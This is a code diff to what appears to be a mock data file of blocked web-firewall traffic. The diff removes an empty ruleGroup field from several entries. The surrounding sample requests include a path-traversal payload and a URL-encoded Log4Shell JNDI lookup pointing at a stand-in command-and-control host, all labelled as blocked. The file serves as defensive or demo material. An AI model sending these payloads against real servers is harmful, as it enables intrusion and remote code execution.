@@ -12,7 +12,6 @@ const probe = (path: string, match: string = path): MatchedRequest => ({
   method: 'GET',
   path,
   ruleId: '930130',
-  ruleGroup: '',
   message: 'Restricted File Access Attempt',
   severity: '',
   status: 'Blocked',
@@ -23,7 +22,6 @@ const scanner = (path: string): MatchedRequest => ({
   method: 'HEAD',
   path,
   ruleId: '913100',
-  ruleGroup: '',
   message: 'Found User-Agent associated with security scanner',
   severity: 'CRITICAL',
   status: 'Blocked',
@@ -66,7 +64,6 @@ export const scanners: TrafficPattern = {
       method: 'GET',
       path: '/index.php?lang=../../../../../../../../tmp/index1',
       ruleId: '930100',
-      ruleGroup: '',
       message: 'Path Traversal Attack (/../) or (/.../)',
       severity: 'CRITICAL',
       status: 'Blocked',
@@ -76,7 +73,6 @@ export const scanners: TrafficPattern = {
       method: 'GET',
       path: '/?x=%24%7Bjndi:ldap://c2.example/a%7D',
       ruleId: '944150',
-      ruleGroup: '',
       message: 'Potential Remote Command Execution: Log4j / Log4shell',
       severity: 'CRITICAL',
       status: 'Blocked',
@@ -92,7 +88,6 @@ const injection = (path: string, ruleId: string, message: string): MatchedReques
   method: 'GET',
   path,
   ruleId,
-  ruleGroup: '',
   message,
   severity: 'CRITICAL',
   status: 'Blocked',
@@ -165,7 +160,6 @@ export const isStuffing = (minute: number, phase: number): boolean =>
 
 const LOGIN_REQUEST = {
   method: 'POST',
-  ruleGroup: '',
   severity: 'WARNING',
 } as const;
 
